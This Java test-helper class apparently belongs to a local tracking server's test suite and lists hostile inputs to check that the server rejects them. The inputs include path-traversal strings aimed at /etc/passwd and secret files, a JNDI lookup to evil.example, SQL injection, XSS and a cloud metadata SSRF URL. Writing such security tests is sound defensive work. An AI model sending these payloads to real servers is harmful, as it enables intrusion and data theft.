package io.github.modelkeel.localserver;

import java.io.IOException;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeSet;
import java.util.stream.Stream;

/** Strings that some server once let pass, and what they must not have changed. */
final class Attacks {
    private static final List<String> PATHS = List.of(
            "..",
            "../secret.txt",
            "../../secret.txt",
            "1/../../secret.txt",
            "1/..",
            "./a",
            "1/./a",
            "1//a",
            "/etc/passwd",
            "//etc/passwd",
            "..\\secret.txt",
            "1\\..\\..\\secret.txt",
            "C:/Windows/win.ini",
            "C:secret.txt",
            "c:",
            "%2e%2e/secret.txt",
            "..;/secret.txt",
            "1/;/a",
            "#/../secret.txt",
            "1#a",
            "1?a",
            "a\u0000.txt",
            "a\nb",
            "con",
            "NUL.txt",
            "1/aux",
            "com1.log",
            "LPT9",
            "a.",
            "a ",
            "1/a. ",
            "~/x\\y",
            "file:///etc/passwd",
            "%00",
            "..%2f..%2fsecret.txt",
            "..%5c..%5csecret.txt",
            "a|b",
            "a*b",
            "x".repeat(300));

    private static final List<String> OTHERS = List.of(
            "file:///etc/passwd#/artifacts",
            "file://localhost/etc",
            "mlflow-artifacts://evil.example/0",
            "mlflow-artifacts:/../secret.txt",
            "runs:/../../x",
            "models:/../../x",
            "models:/house/1/../../..",
            "http://169.254.169.254/latest/meta-data",
            "s3://bucket/../../x",
            "jar:file:/tmp/x.jar!/",
            "' OR 1=1 --",
            "name = 'x'; DROP TABLE runs",
            "${jndi:ldap://evil.example/x}",
            "<script>alert(1)</script>",
            "\u202e\ufeff",
            "\ud800",
            "-9223372036854775809",
            "1e999");

    private Attacks() {}

    /** Ways out of an artifact directory, plain and encoded once and twice, fit for a request's first line. */
    static List<String> inAddresses() {
        List<String> encoded = new ArrayList<>();
        for (String attack : PATHS) {
            String once = Http.encode(attack);
            encoded.add(once);
            encoded.add(once.replace("%2F", "/"));
            encoded.add(Http.encode(once));
            encoded.add(once.replace(".", "%2E").replace("%2F", "/"));
        }
        encoded.addAll(
                List.of("..", "../secret.txt", "1/../../secret.txt", "%", "%zz", "%c0%ae%c0%ae/secret.txt", "%ff"));
        return encoded;
    }

    /** An address decoded once, where a '%' that begins no escape stays. */
    static String decodedOnce(String address) {
        return URLDecoder.decode(
                address.replaceAll("%(?![0-9a-fA-F]{2})", "%25").replace("+", "%2B"), StandardCharsets.UTF_8);
    }

    /** Whether a path, once decoded, could mean another place than a file beneath a directory. */
    static boolean meansAnotherPlace(String path) {
        return List.of(path.split("/", -1)).stream().anyMatch(List.of("", ".", "..")::contains)
                || path.chars().anyMatch(c -> c < ' ' || c == 0x7f || c == '#');
    }

    /** What may stand in a field of a request. */
    static List<String> inFields() {
        List<String> all = new ArrayList<>(PATHS);
        all.addAll(OTHERS);
        return all;
    }

    /** The names of all files and directories but the database's. */
    static List<String> tree(Path directory) throws IOException {
        TreeSet<String> names = new TreeSet<>();
        try (Stream<Path> files = Files.walk(directory)) {
            files.map(file -> directory.relativize(file).toString())
                    .filter(name -> !name.startsWith("tracking.db"))
                    .forEach(names::add);
        }
        return List.copyOf(names);
    }
}
